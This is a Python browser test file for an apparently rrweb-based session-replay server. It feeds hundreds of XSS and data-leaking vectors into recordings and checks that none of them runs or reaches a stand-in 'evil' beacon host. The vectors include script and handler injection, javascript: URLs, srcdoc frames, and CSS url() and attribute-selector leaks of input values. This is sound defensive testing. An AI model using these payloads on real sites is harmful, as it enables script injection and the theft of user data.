"""Hostile recordings in a real browser: of a hundred and more ways to run code or to call out, none works.

Each vector is once part of the first snapshot and once added later by a mutation; a server that nothing should call
listens. The recordings go through the real server: import, segments, page.
"""

# ruff: noqa: E501  (a vector reads best on one line)
from __future__ import annotations

import base64
import itertools
import json
import urllib.parse
import urllib.request
from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import expect

from tests.browser.pages.conftest import add_recording, element, event, page_load, text

RUN = "(parent.hacked=top.hacked=window.hacked=1)"


def node(tag: str, *children: Any, **attributes: Any) -> dict[str, Any]:
    return element(0, tag, *children, **{name.rstrip("_"): value for name, value in attributes.items()})


def svg(tag: str, *children: Any, **attributes: Any) -> dict[str, Any]:
    return {**node(tag, *children, **attributes), "isSVG": True}


def words(content: str) -> dict[str, Any]:
    return text(0, content)


def css(content: str) -> dict[str, Any]:
    return node("style", words(content))


def vectors(evil: str) -> list[dict[str, Any]]:
    """Return one node a vector; ids are given by `numbered`."""

    def url(name: str) -> str:
        return f"{evil}/{name}"

    script = f"<script>{RUN}</script>"
    found: list[dict[str, Any]] = []
    # scripts, whatever their spelling and namespace
    found += [node(tag, words(RUN)) for tag in ("script", "SCRIPT", "Script", "sCRIPT", "svg:script", "script ")]
    found += [node("script", src=url("script.js")), node("SCRIPT", src=url("script2.js"), type="module")]
    found += [
        node(
            "script",
            words(json.dumps({"prefetch": [{"source": "list", "urls": [url("spec")]}]})),
            type="speculationrules",
        )
    ]
    found += [svg("svg", svg("script", words(RUN))), svg("svg", svg("SCRIPT", words(RUN), href=url("svg.js")))]
    found += [node("noscript", node("img", src=url("noscript.png"))), node("template", node("script", words(RUN)))]
    # handlers
    for name in (
        "onload",
        "onerror",
        "onfocus",
        "ONERROR",
        "onpointerenter",
        "onanimationstart",
        "ontoggle",
        "onbegin",
    ):
        found.append(node("img", src="x", **{name: RUN}))
        found.append(svg("svg", svg("animate", attributeName="x", dur="1ms", **{name: RUN}), **{name: RUN}))
    found += [node("input", autofocus="", onfocus=RUN), node("details", node("p", words("x")), open="", ontoggle=RUN)]
    found += [node("body", onload=RUN), node("video", node("source", src=url("v.mp4"), onerror=RUN), autoplay=True)]
    found += [node("audio", src=url("a.mp3"), autoplay=True, onerror=RUN), node("marquee", words("x"), onstart=RUN)]
    # frames, plugins
    for tag in ("iframe", "IFRAME", "frame", "embed", "object", "portal", "fencedframe"):
        found.append(node(tag, src=url(tag), data=url(f"{tag}-data")))
        found.append(node(tag, src=f"javascript:{RUN}", data=f"javascript:{RUN}"))
        found.append(node(tag, src=f"data:text/html,{script}", data=f"data:text/html,{script}"))
    found += [node("iframe", srcdoc=script), node("iframe", SRCDOC=script, sandbox="allow-scripts allow-same-origin")]
    found += [node("iframe", srcdoc=f"<img src={url('srcdoc.png')}>"), node("iframe", src="about:blank", name="x")]
    found += [node("object", node("param", name="movie", value=url("m.swf")), type="application/x-shockwave-flash")]
    found += [
        node("applet", code="X", archive=url("x.jar"), codebase=evil),
        node("frameset", node("frame", src=url("fs"))),
    ]
    # addresses that act
    for scheme in (f"javascript:{RUN}", f" \tjava\nscript:{RUN}", f"JaVaScRiPt:{RUN}", f"vbscript:{RUN}"):
        found.append(node("a", words("go"), href=scheme, id="bait"))
        found.append(node("form", node("button", words("send"), formaction=scheme), action=scheme))
    found += [svg("svg", svg("a", svg("text", words("go")), **{"xlink:href": f"javascript:{RUN}"}))]
    found += [svg("svg", svg("a", svg("animate", attributeName="href", values=f"javascript:{RUN}", dur="1s")))]
    found += [
        svg("svg", svg("set", attributeName="onclick", to=RUN)),
        node("a", words("x"), href=url("a"), ping=url("ping")),
    ]
    found += [
        node("a", words("x"), href=url("pop"), target="_blank"),
        node("base", href=f"{evil}/base/", target="_top"),
    ]
    found += [node("img", src="relative-to-base.png"), node("isindex", action=f"javascript:{RUN}")]
    # going elsewhere
    for said in ("refresh", "Refresh", "REFRESH"):
        found.append(node("meta", **{"http-equiv": said, "content": f"0; url={url('refresh')}"}))
        found.append(node("meta", **{"HTTP-EQUIV": said, "content": f"0;url=javascript:{RUN}"}))
    found += [node("meta", **{"http-equiv": "Content-Security-Policy", "content": f"report-uri {url('csp')}"})]
    found += [node("meta", **{"http-equiv": "set-cookie", "content": "a=b"}), node("html", manifest=url("manifest"))]
    # connections by hint
    for rel in (
        "stylesheet",
        "preload",
        "prefetch",
        "preconnect",
        "dns-prefetch",
        "modulepreload",
        "prerender",
        "import",
    ):
        found.append(node("link", rel=rel, href=url(f"link-{rel}"), as_="style"))
    found += [node("link", rel="icon", href=url("icon")), node("link", rel="manifest", href=url("webmanifest"))]
    found += [
        node("link", rel="PRECONNECT", href=evil),
        node("link", rel="preload", imagesrcset=url("set"), as_="image"),
    ]
    # pictures and media
    found += [
        node("img", src=url("img.png")),
        node("img", srcset=f"{url('srcset.png')} 1x"),
        node("image", src=url("image")),
    ]
    found += [node("img", rr_dataURL=url("rr-data.png"), src=""), node("canvas", rr_dataURL=url("rr-canvas.png"))]
    found += [node("img", rr_dataURL=f"javascript:{RUN}"), node("input", type="image", src=url("input.png"))]
    found += [node("img", src=url("attribution"), attributionsrc=url("attributionsrc"), loading="eager")]
    found += [node("picture", node("source", srcset=url("picture.png")), node("img", src=""))]
    found += [
        node("video", poster=url("poster.png"), src=url("video.mp4"), preload="auto"),
        node("bgsound", src=url("bg")),
    ]
    found += [node("video", node("track", src=url("track.vtt"), default=True), src="data:video/mp4,x")]
    found += [node("table", background=url("table.png")), node("body", background=url("body.png"))]
    found += [svg("svg", svg("image", href=url("svg-image.png")), svg("use", href=f"{url('sprite.svg')}#x"))]
    found += [svg("svg", svg("feImage", href=url("feimage.png")), svg("image", **{"xlink:href": url("xlink.png")}))]
    found += [
        svg("svg", svg("foreignObject", node("img", src=url("foreign.png"))), svg("rect", fill=f"url({url('fill')})"))
    ]
    found += [svg("svg", svg("rect", filter=f"url({url('filter.svg')}#f)", mask=f"url({url('mask.svg')}#m)"))]
    # style sheets
    at = "@import"
    found += [css(f"{at} url({url('import.css')});"), css(f"{at} '{url('import2.css')}' screen;")]
    found += [css(f"@font-face {{font-family: x; src: url({url('font.woff')})}} * {{font-family: x}}")]
    found += [css(f"input[value^=s] {{background: url({url('leak-s')})}}"), node("input", value="secret")]
    found += [
        css(f"h1 {{background: image-set('{url('set1')}' 1x)}}"),
        css(f"h1::before {{content: url({url('content')})}}"),
    ]
    found += [css(f"h1 {{cursor: url({url('cursor')}), auto; list-style: url({url('list')})}}")]
    found += [
        css(
            f"h1 {{border-image: url({url('border')}); mask: url({url('css-mask')}); filter: url({url('css-filter')})}}"
        )
    ]
    found += [css(f"h1 {{--x: url({url('var')}); background: var(--x)}}"), css(f"@namespace url({url('namespace')});")]
    found += [
        node("p", words("x"), style=f"background: url({url('inline')})"),
        css(f"h1 {{behavior: url({url('htc')})}}"),
    ]
    found += [node("p", words("x"), style=f"background: u\\72l({url('escaped')}); -moz-binding: url({url('xbl')})")]
    found += [
        node("link", rel="stylesheet", _cssText=f"h1 {{background: url({url('csstext')})}}", href=url("linked.css"))
    ]
    found += [node("style", words(""), _cssText=f"{at} url({url('csstext-import')});")]
    # forms and popups
    found += [
        node("form", node("button", words("send"), type="submit"), action=url("form"), method="post", target="_blank")
    ]
    found += [
        node("dialog", words("hello"), open="", rr_open_mode="modal"),
        node("p", words("x"), contenteditable="true"),
    ]
    return found


def newer(evil: str) -> list[dict[str, Any]]:
    """What browsers learnt of late, and what they never forgot."""

    def url(name: str) -> str:
        return f"{evil}/{name}"

    def shadow(*children: Any) -> dict[str, Any]:
        inside = [{**child, "isShadow": True} for child in children]
        return {**node("div", *inside), "isShadowHost": True}

    script = f"<script>{RUN}</script>"
    drawing = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'><script>{RUN}</script><image href='{evil}/in-svg'/></svg>"
    packed = "data:image/svg+xml," + urllib.parse.quote(drawing)
    found: list[dict[str, Any]] = []
    # shadow trees, as recorded and as a parser would make them
    found += [shadow(node("img", src=url("shadow.png"), onerror=RUN), css(f":host {{background: url({url('host')})}}"))]
    found += [
        shadow(
            node("script", words(RUN)),
            node("iframe", srcdoc=script),
            node("link", rel="preload", href=url("sp"), as_="image"),
        )
    ]
    found += [
        shadow(
            css(f"@import url({url('shadow-import')}); ::slotted(*) {{background: url({url('slotted')})}}"),
            node("slot"),
        )
    ]
    for mode in ("open", "closed"):
        inside = [node("script", words(RUN)), node("img", src=url(f"template-{mode}"), onerror=RUN)]
        found += [node("div", node("template", *inside, shadowrootmode=mode, shadowrootserializable=""))]
    found += [node("div", node("template", node("img", src=url("old-template")), shadowroot="open"))]
    # other namespaces
    found += [
        svg(
            "svg",
            svg("foreignObject", node("iframe", srcdoc=script, src=url("foreign-frame")), node("script", words(RUN))),
        )
    ]
    found += [
        svg(
            "svg",
            svg("foreignObject", node("body", node("img", src="x", onerror=RUN), onload=RUN)),
            **{"xml:base": f"{evil}/base/"},
        )
    ]
    found += [
        svg(
            "svg",
            svg("style", words(f"@import url({url('svg-import')}); rect {{fill: url({url('svg-fill')}#x)}}")),
            svg("rect"),
        )
    ]
    found += [svg("svg", svg("desc", node("script", words(RUN))), svg("title", node("img", src=url("title.png"))))]
    for tag in (
        "pattern",
        "linearGradient",
        "textPath",
        "mpath",
        "cursor",
        "filter",
        "tref",
        "altGlyph",
        "animate",
        "font-face-uri",
    ):
        found += [svg("svg", svg(tag, href=url(f"svg-{tag}"), **{"xlink:href": url(f"xlink-{tag}")}))]
    found += [svg("svg", svg("use", href=packed), svg("image", href=packed), svg("feImage", **{"XLINK:HREF": packed}))]
    found += [
        svg(
            "svg",
            svg("a", svg("set", attributeName="xlink:href", to=f"javascript:{RUN}"), href="#"),
            svg("discard", onbegin=RUN),
        )
    ]
    found += [
        svg(
            "svg",
            svg(
                "rect",
                **{
                    "clip-path": f"url({url('clip')})",
                    "marker-end": f"url({url('marker')}#m)",
                    "style": f"fill: url({url('style-fill')})",
                },
            ),
        )
    ]
    found += [svg("handler", words(RUN), **{"ev:event": "load"}), svg("listener", event="load", handler="#x")]
    for name in ("href", "xlink:href", "src"):
        found += [
            node(
                "math",
                node("mtext", node("img", src=url("math.png"), onerror=RUN)),
                node("mi", words("x"), **{name: f"javascript:{RUN}"}),
            )
        ]
    found += [
        node(
            "math",
            node("mglyph", src=url("mglyph")),
            node("maction", words("x"), actiontype=f"statusline#{url('maction')}"),
        )
    ]
    found += [
        node(
            "math",
            node("annotation-xml", node("iframe", srcdoc=script), node("script", words(RUN)), encoding="text/html"),
        )
    ]
    found += [
        node("math", node("semantics", node("annotation", words("x"), src=url("annotation"))), altimg=url("altimg"))
    ]
    # frames in frames, plugins, what only some browsers know
    found += [
        node("iframe", node("iframe", srcdoc=script), srcdoc=f"<iframe srcdoc='{script}'></iframe>", src=url("outer"))
    ]
    found += [node("iframe", src=url("credentialless"), credentialless="", allow="*", csp="x", loading="eager")]
    found += [
        node("fencedframe", config=url("config"), src=url("fenced"), mode="opaque-ads"),
        node("portal", src=url("portal2"), onload=RUN),
    ]
    found += [
        node("controlledframe", src=url("controlled")),
        node("webview", src=url("webview"), preload=url("preload"), nodeintegration=""),
    ]
    found += [
        node("layer", src=url("layer")),
        node("ilayer", src=url("ilayer")),
        node("xml", src=url("xml")),
        node("bgsound", src=url("bg2")),
    ]
    found += [node("object", node("embed", src=packed, type="image/svg+xml"), data=packed, type="image/svg+xml")]
    found += [
        node(
            "object",
            node("param", name="src", value=url("param")),
            data=url("nested-object"),
            codebase=evil,
            classid="x",
        )
    ]
    found += [
        node("embed", src=url("embed.pdf"), type="application/pdf", pluginspage=url("plugin")),
        node("noembed", words(script)),
    ]
    found += [
        node(tag, words(f"</{tag}>{script}<img src={url(tag)} onerror={RUN}>"))
        for tag in ("noframes", "xmp", "plaintext", "listing", "textarea", "title", "noscript", "iframe", "style")
    ]
    # links of every kind
    rels = "icon,shortcut icon,apple-touch-icon,apple-touch-startup-image,mask-icon,fluid-icon,search,author,license,pingback,canonical,alternate,alternate stylesheet,amphtml,next,prev,first,up,help,me,monetization,webmention,privacy-policy,terms-of-service,compression-dictionary,expect,serviceworker,subresource,dns-prefetch preconnect,stylesheet preload,PREFETCH,DNS-Prefetch,modulePreload,X preconnect Y,speculationrules,import,manifest,opensearch,p3pv1,micropub,hub,payment"
    for rel in rels.split(","):
        found.append(
            node("link", rel=rel, href=url(f"rel-{rel.replace(' ', '-')}"), onload=RUN, onerror=RUN, blocking="render")
        )
    for kind in (
        "font",
        "fetch",
        "image",
        "script",
        "track",
        "worker",
        "document",
        "video",
        "audio",
        "object",
        "embed",
        "json",
    ):
        found.append(node("link", rel="preload", href=url(f"as-{kind}"), as_=kind, crossorigin=""))
        found.append(node("link", rel="modulepreload", href=url(f"module-{kind}"), as_=kind))
    found += [
        node("link", rel="stylesheet", href=url("media.css"), media="print", onload="this.media='all'"),
        node("LINK", REL="STYLESHEET", HREF=url("upper.css")),
    ]
    found += [
        node("link", rel="stylesheet", href=f"data:text/css,@import '{url('data-css')}'"),
        node("link", rel="preload", imagesrcset=f"{url('iss')} 2x", as_="image", imagesizes="1px"),
    ]
    rules = {
        "prerender": [{"urls": [url("prerendered")], "eagerness": "immediate"}],
        "prefetch": [{"where": {"href_matches": "/*"}, "eagerness": "immediate"}],
    }
    found += [
        node("script", words(json.dumps(rules)), type="speculationrules"),
        node("SCRIPT", words(json.dumps(rules)), type="SpeculationRules"),
    ]
    found += [
        node("script", words(json.dumps({"imports": {"x": url("map.js")}})), type="importmap"),
        node("script", src=url("rules.json"), type="speculationrules"),
    ]
    # attributes that call
    for tag in ("a", "area", "img", "script"):
        found.append(
            node(
                tag,
                words("x"),
                href=url(f"{tag}-href"),
                ping=url(f"{tag}-ping"),
                attributionsrc=url(f"{tag}-attribution"),
                attributionreporting="",
                browsingtopics="",
                sharedstoragewritable="",
            )
        )
    for tag in ("table", "td", "th", "tr", "tbody", "body", "div"):
        found.append(
            node(
                tag,
                words("x"),
                background=url(f"background-{tag}"),
                dynsrc=url(f"dynsrc-{tag}"),
                lowsrc=url(f"lowsrc-{tag}"),
            )
        )
    found += [
        node("img", src=packed),
        node("img", srcset=f"{packed} 1x, {url('srcset2')} 2x"),
        node("img", longdesc=url("longdesc"), usemap=url("usemap")),
    ]
    found += [
        node(
            "img",
            src=url("sizes"),
            srcset=f"{url('w1')} 100w, {url('w2')} 200w",
            sizes="auto, 100vw",
            fetchpriority="high",
            decoding="sync",
            elementtiming=url("t"),
        )
    ]
    found += [
        node(
            "video",
            node("track", src=url("t.vtt"), kind="metadata", default="", oncuechange=RUN),
            node("source", src=url("s.webm"), srcset=url("s.png")),
            poster=packed,
        )
    ]
    found += [
        node("video", src=url("v.m3u8"), preload="auto", crossorigin="use-credentials"),
        node("audio", node("source", src=url("a.ogg")), preload="auto"),
    ]
    found += [
        node("input", type="image", src=packed, formaction=f"javascript:{RUN}"),
        node("button", words("x"), popovertarget="p", command="show-modal", commandfor="p"),
    ]
    found += [
        node("div", words("x"), popover="", id="p", onbeforetoggle=RUN),
        node("q", words("x"), cite=f"javascript:{RUN}"),
        node("del", words("x"), cite=url("cite")),
    ]
    found += [
        node("blockquote", words("x"), cite=url("cite2")),
        node("geolocation", onlocation=RUN),
        node("permission", type="camera", onpromptaction=RUN),
    ]
    for said in (
        "x-dns-prefetch-control",
        "accept-ch",
        "delegate-ch",
        "origin-trial",
        "default-style",
        "Content-Security-Policy-Report-Only",
        "set-cookie",
        "link",
        "refresh ",
    ):
        found.append(
            node(
                "meta",
                **{"http-equiv": said, "content": f"on; <{url('meta')}>; rel=preload; report-uri {url('meta-report')}"},
            )
        )
    found += [
        node("meta", name="referrer", content="unsafe-url"),
        node("meta", name="monetization", content=url("wallet")),
        node("meta", **{"HTTP-equiv": "Refresh", "CONTENT": f"0,{url('refresh2')}"}),
    ]
    # style sheets
    at = "@import"
    for rest in (
        " layer(x)",
        " layer",
        " supports(display: grid)",
        " layer(a) supports(display: grid) screen",
        " scope((.a) to (.b))",
    ):
        found.append(css(f"{at} url({url('import' + str(len(rest)))}){rest};"))
        found.append(css(f"{at} '{url('import-s' + str(len(rest)))}'{rest};"))
    found += [
        css(f"@layer a; {at} url({url('after-layer')}) layer(a);"),
        css(f"@charset 'utf-8'; {at}/**/'{url('comment')}';"),
        css(f"\\40 import url({url('escaped-at')}); {at.upper()} url({url('upper-at')});"),
    ]
    pictures = (
        "url({})",
        "image-set('{}' 1x)",
        "image-set(url({}) 2x type('image/png'))",
        "-webkit-image-set(url({}) 1x)",
        "cross-fade(url({}), url({}), 50%)",
        "-webkit-cross-fade(url({}), red, 50%)",
        "image('{}')",
        "src('{}')",
        "paint(x, url({}))",
        "element(#x), url({})",
        "-webkit-canvas(x), url({})",
        "u\\72 l({})",
        "URL('{}')",
        "url('{}' crossorigin(anonymous))",
    )
    for number, picture in enumerate(pictures):
        filled = picture.replace("{}", url(f"picture{number}"))
        found.append(
            css(
                f"h1 {{background-image: {filled}}} h1::before {{content: {filled}}} h1 {{--v{number}: {filled}; mask-image: var(--v{number})}}"
            )
        )
        found.append(node("p", words("x"), style=f"background-image: {filled}; list-style-image: {filled}"))
    for number, name in enumerate(
        "-webkit-mask-image -webkit-mask-box-image -webkit-border-image -webkit-box-reflect:below-0 border-image-source shape-outside offset-path clip-path filter backdrop-filter cursor marker marker-start fill stroke background -webkit-filter mask-border-source scroll-timeline corner-shape zoom behavior -moz-binding".split()
    ):
        prop, _, lead = name.partition(":")
        found.append(css(f"h1 {{{prop}: {lead.replace('-', ' ')} url({url(f'prop{number}')})}}"))
    found += [
        css(
            f"@font-face {{font-family: a; src: url({url('face')}) format(woff2) tech(variations)}} h1 {{font-family: a}}"
        ),
        css(
            f"@font-face {{font-family: b; src: src('{url('face-src')}'), url({url('face2')}); unicode-range: U+48}} h1 {{font-family: b}}"
        ),
    ]
    found += [
        css(f"@counter-style c {{system: cyclic; symbols: url({url('symbol')})}} li {{list-style: c}}"),
        node("ul", node("li", words("x"))),
    ]
    found += [
        css(
            f"@property --p {{syntax: '<image>'; inherits: true; initial-value: url({url('property')})}} h1 {{background: var(--p)}}"
        )
    ]
    for rule in (
        "@supports (display: grid)",
        "@media all",
        "@container (min-width: 0)",
        "@layer x",
        "@scope (body)",
        "@starting-style",
        "@document url(x)",
        "@-moz-document url-prefix()",
        "@page",
        "@view-transition",
        "@position-try --x",
    ):
        found.append(css(f"{rule} {{ h1 {{background: url({url('in-' + rule.split()[0][1:])})}} }}"))
    found += [
        css(
            f"@namespace svg url({url('namespace2')}); @color-profile --c {{src: url({url('profile')})}} @font-palette-values --f {{base-palette: url({url('palette')})}}"
        )
    ]
    found += [
        css(f"h1 {{background: url({packed!r}); content: url({packed!r})}}"),
        css("h1 {background: attr(data-x type(<url>)); background: attr(data-x url)}"),
        node("h1", words("Hostile"), **{"data-x": url("attr")}),
    ]
    found += [
        css(f"{selector} {{background: url({url('leak' + str(number))})}}")
        for number, selector in enumerate(
            (
                "input[value='secret']",
                ":has(input[value^=s])",
                "h1:not([x])",
                ":visited",
                "::selection",
                "h1::first-letter",
                "html:hover",
                "h1::highlight(x)",
                "::-webkit-scrollbar-thumb",
                ":host-context(html)",
                "::view-transition",
            )
        )
    ]
    found += [
        css(f"@keyframes k {{to {{background: url({url('keyframe')})}}}} h1 {{animation: k 1ms forwards}}"),
        css(f"h1 {{transition: all 1ms; background: if(style(--x): url({url('if')}); else: url({url('else')}))}}"),
    ]
    return found


def own_addresses(app: str) -> list[dict[str, Any]]:
    """Pictures, sheets and fonts that are none: pages and exports of this server, asked for by a viewer's browser."""
    paths = ("/sessions", "/audit", "/settings", "/api/sessions?limit=100", "/api/sessions/x/export.gif", "/logout")
    found = [element(0, "img", src=f"{app}{path}") for path in paths]
    found += [element(0, "link", rel="stylesheet", href=f"{app}{path}") for path in paths]
    faces = " ".join(
        f"@font-face {{font-family: o{n}; src: url({app}{path})}} h1 {{background: url({app}{path}); font-family: o{n}}}"
        for n, path in enumerate(paths)
    )
    return [*found, element(0, "style", text(0, faces))]


def later(evil: str) -> list[dict[str, Any]]:
    """What only events can do: attributes set on what is there, rules, fonts, canvas constructors, media."""
    code = {"rr_type": "Function", "args": [RUN]}
    picture = {"rr_type": "HTMLImageElement", "src": f"{evil}/canvas.png"}
    changes = [
        {"id": 6, "attributes": {"onclick": RUN, "onpointermove": RUN, "background": f"{evil}/late-body.png"}},
        {"id": 900, "attributes": {"src": f"javascript:{RUN}", "srcdoc": f"<script>{RUN}</script>"}},
        {"id": 901, "attributes": {"rel": "preconnect"}},
        {"id": 901, "attributes": {"href": f"{evil}/late-link"}},
        {"id": 902, "attributes": {"http-equiv": "refresh", "content": f"0;url={evil}/late-refresh"}},
    ]
    return [
        {"source": 0, "texts": [], "attributes": changes, "removes": [], "adds": []},
        {"source": 8, "id": 903, "adds": [{"rule": f"h1 {{background: url({evil}/rule)}}", "index": 0}]},
        {"source": 13, "id": 903, "index": [0], "set": {"property": "background", "value": f"url({evil}/declared)"}},
        {"source": 15, "id": 1, "styleIds": [1], "styles": [{"styleId": 1, "rules": [{"rule": f"h1 {{background: url({evil}/adopted)}}", "index": 0}]}]},
        {"source": 10, "family": "f", "fontSource": f"url({evil}/late-font.woff)", "buffer": False},
        {"source": 9, "id": 904, "type": 0, "commands": [{"property": "drawImage", "args": [code, 0, 0]}]},
        {"source": 9, "id": 904, "type": 0, "property": "drawImage", "args": [picture, 0, 0]},
        {"source": 9, "id": 904, "type": 1, "property": "constructor", "args": [RUN]},
        {"source": 7, "type": 0, "id": 905},
        {"source": 16, "define": {"name": "x-evil"}},
        *later_still(evil, code),
    ]  # fmt: skip


def later_still(evil: str, code: dict[str, Any]) -> list[dict[str, Any]]:
    """Rules, sheets, frames and attributes that come one by one."""
    rules = [
        f"@font-face {{font-family: late; src: url({evil}/rule-font)}}",
        f"@import url({evil}/rule-import) layer(x);",
        f"@namespace x url({evil}/rule-namespace);",
        f"@layer l {{ h1 {{background: -webkit-image-set(url({evil}/rule-layer) 1x); font-family: late}} }}",
        f"@property --q {{syntax: '<image>'; inherits: true; initial-value: url({evil}/rule-property)}}",
        f"h1 {{--late: url({evil}/rule-var); background: var(--late)}}",
    ]
    inner = [
        element(921, "head", element(922, "base", href=f"{evil}/")),
        element(
            923,
            "body",
            element(924, "img", src=f"{evil}/inner.png", onerror=RUN),
            element(925, "script", text(926, RUN)),
            element(927, "iframe", srcdoc=f"<script>{RUN}</script>"),
            onload=RUN,
        ),
    ]
    document = {"type": 0, "id": 920, "rootId": 920, "childNodes": [{**element(928, "html", *inner), "rootId": 920}]}
    changed = [
        {"id": 901, "attributes": {"rel": "modulepreload", "href": f"{evil}/late-module", "as": "script"}},
        {"id": 905, "attributes": {"poster": f"{evil}/late-poster", "src": f"{evil}/late-video", "autoplay": ""}},
        {"id": 6, "attributes": {"style": {"background": f"url({evil}/late-style)", "--x": f"url({evil}/late-var)"}}},
        {"id": 903, "attributes": {"_cssText": f"@import url({evil}/late-csstext);", "media": "all"}},
        {
            "id": 900,
            "attributes": {"SRC": f"{evil}/late-upper", "SrcDoc": f"<script>{RUN}</script>", "credentialless": ""},
        },
        {"id": 6, "attributes": {"ONCLICK": RUN, "rr_dataURL": f"{evil}/late-rr", "is": "x-evil", "nonce": "x"}},
    ]
    plain = {"source": 0, "texts": [], "attributes": [], "removes": [], "adds": []}
    return [
        *({"source": 8, "id": 903, "adds": [{"rule": rule, "index": 0}]} for rule in rules),
        {"source": 8, "id": 903, "replace": f"@import url({evil}/replace); h1 {{background: url({evil}/replaced)}}"},
        {"source": 8, "styleId": 1, "replaceSync": f"h1 {{background: url({evil}/replace-sync)}}"},
        {"source": 13, "id": 903, "index": [0], "set": {"property": "--z", "value": f"url({evil}/declared-var)"}},
        {"source": 10, "family": f"x; src: url({evil}/family)", "fontSource": f"src('{evil}/late-src')", "buffer": False},
        {"source": 10, "family": "g", "fontSource": json.dumps([1, 2, 3]), "buffer": True, "descriptors": {"src": evil}},
        {**plain, "isAttachIframe": True, "adds": [{"parentId": 900, "nextId": None, "node": document}]},
        {**plain, "attributes": changed},
        {**plain, "texts": [{"id": 906, "value": f"@import url({evil}/late-text); h1 {{background: url({evil}/late-text2)}}"}]},
        {"source": 9, "id": 904, "type": 0, "commands": [{"property": "drawImage", "args": [{**code, "rr_type": "Worker"}]}]},
        {"source": 9, "id": 904, "type": 0, "commands": [{"property": "constructor", "args": [RUN], "setter": True}]},
        {"source": 15, "id": 1, "styleIds": [2], "styles": [{"styleId": 2, "rules": [{"rule": rule} for rule in rules]}]},
    ]  # fmt: skip


def numbered(nodes: list[dict[str, Any]], ids: Any) -> list[dict[str, Any]]:
    for node in nodes:
        node["id"] = next(ids)
        numbered(node.get("childNodes", []), ids)
    return nodes


def flat(parent: int, nodes: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """The nodes as additions, each parent before what it holds, as rrweb records them."""
    found = []
    for node in nodes:
        found.append(
            {"parentId": parent, "nextId": None, "node": {**node, "childNodes": []} if "childNodes" in node else node}
        )
        found += flat(node["id"], node.get("childNodes", []))
    return found


def targets() -> list[dict[str, Any]]:
    return [
        element(900, "iframe"),
        element(901, "link"),
        element(902, "meta"),
        element(903, "style", text(906, "p {}")),
        element(904, "canvas", width="20", height="20"),
        element(905, "video"),
    ]


def recording(evil: str, how: str, which: Callable[[str], list[dict[str, Any]]]) -> list[dict[str, Any]]:
    nodes = numbered(which(evil), itertools.count(1_000))
    heading = element(10, "h1", text(11, "Hostile"))
    events = page_load(
        0, "https://evil.example/", "Hostile", heading, *targets(), *(nodes if how == "snapshot" else [])
    )
    if how == "mutation":
        adds = flat(6, nodes)
        data = {"source": 0, "texts": [], "attributes": [], "removes": [], "adds": adds}
        events.append(event(300, 3, data))
    events += [event(600 + at * 20, 3, data) for at, data in enumerate(later(evil))]
    return [*events, event(2_500, 5, {"tag": "x", "payload": 0})]


def test_there_are_four_hundred_and_more() -> None:
    found = vectors("http://evil") + newer("http://evil") + later("http://evil")
    assert len(found) >= 400
    assert len({json.dumps(one, sort_keys=True) for one in found}) == len(found)


@pytest.mark.parametrize("which", [vectors, newer])
@pytest.mark.parametrize("how", ["snapshot", "mutation"])
def test_nothing_runs_and_nothing_calls_out(tab, app, beacon, how, which):
    requests: list[str] = []
    note = lambda request: requests.append(request.url)  # noqa: E731
    tab.context.on("request", note)
    opened = len(tab.context.pages)
    session = add_recording(app, recording(beacon.url, how, which))
    tab.goto(f"{app.url}/sessions/{session}?t_ms=1000")
    tab.locator(".player[data-state=paused]").wait_for()
    expect(tab.frame_locator(".stage iframe").locator("h1").first).to_have_text("Hostile")
    tab.keyboard.press("Home")
    tab.get_by_role("slider", name="Moment").press("Home")
    tab.keyboard.press("Space")
    expect(tab.locator(".player")).to_have_attribute("data-state", "ended", timeout=15_000)
    tab.wait_for_timeout(700)  # a refresh, a prefetch, a font may take a moment
    assert tab.evaluate("window.hacked") is None
    frame = tab.query_selector(".stage iframe").content_frame()
    assert frame.evaluate("typeof hacked") == "undefined"
    tab.context.remove_listener("request", note)
    own = [f"{app.url}/", "data:", "blob:", "about:"]
    left = [url for url in requests if not url.startswith(tuple(own)) and not url.startswith(beacon.url)]
    assert left == []
    assert beacon.heard == []
    assert len(tab.context.pages) == opened
    assert tab.url.startswith(app.url)
    tab.wrong.clear()  # the policy refuses what the recording asks for, and says so


@pytest.mark.parametrize("which", [vectors, newer])
@pytest.mark.parametrize("how", ["snapshot", "mutation"])
def test_what_the_server_hands_out_holds_nothing_that_acts(app, beacon, how, which):
    """The second wall stands without the first: whoever reads the API gets events that cannot act."""
    session = add_recording(app, recording(beacon.url, how, which))
    with urllib.request.urlopen(f"{app.url}/api/sessions/{session}/events?from_ms=0", timeout=30) as response:
        events = json.loads(response.read())
    tags: list[str] = []
    names: list[str] = []
    addresses: list[str] = []

    def walk(value: Any) -> None:
        if isinstance(value, list):
            for item in value:
                walk(item)
        elif isinstance(value, dict):
            if isinstance(value.get("tagName"), str):
                tags.append(value["tagName"].lower())
            if isinstance(value.get("attributes"), dict):
                names.extend(name.lower() for name in value["attributes"])
                addresses.extend(str(given) for name, given in value["attributes"].items() if name != "value")
            for item in value.values():
                walk(item)

    walk(events)
    assert "script" not in tags and "svg:script" not in tags
    assert not [name for name in names if name.startswith("on") or name in ("srcdoc", "ping", "attributionsrc")]
    squeezed = ["".join(address.split()).lower() for address in addresses]
    assert not [address for address in squeezed if address.startswith(("javascript:", "vbscript:", "data:text"))]
    assert b"Function" not in json.dumps([one for one in events if one["type"] == 3]).encode()


def test_without_the_policy_the_beacon_hears_and_still_nothing_runs(browser, app, beacon):
    """The beacon can hear, and the walls stand one without the other: no policy, and no script runs."""
    session = add_recording(app, recording(beacon.url, "snapshot", newer))
    context = browser.new_context(viewport={"width": 1280, "height": 800}, bypass_csp=True)
    page = context.new_page()
    page.goto(f"{app.url}/sessions/{session}?t_ms=1000")
    page.locator(".player[data-state=paused]").wait_for()
    page.wait_for_timeout(1_000)
    assert len(set(beacon.heard)) >= 30
    assert page.evaluate("window.hacked") is None
    context.close()


def test_a_picture_is_no_way_to_ask_this_server_for_anything_else(tab, app):
    """Under the viewer's login an export would be made, a page marked as watched."""
    nodes = numbered(own_addresses(app.url), itertools.count(1_000))
    heading = element(10, "h1", text(11, "Hostile"))
    load = page_load(0, f"{app.url}/", "Hostile", heading, *nodes)
    session = add_recording(app, [*load, event(2_000, 5, {"tag": "x", "payload": 0})])
    answers: list[tuple[str, int]] = []
    shown = ("image", "stylesheet", "font")
    tab.on("response", lambda got: got.request.resource_type in shown and answers.append((got.url, got.status)))
    tab.goto(f"{app.url}/sessions/{session}?t_ms=1000")
    tab.locator(".player[data-state=paused]").wait_for()
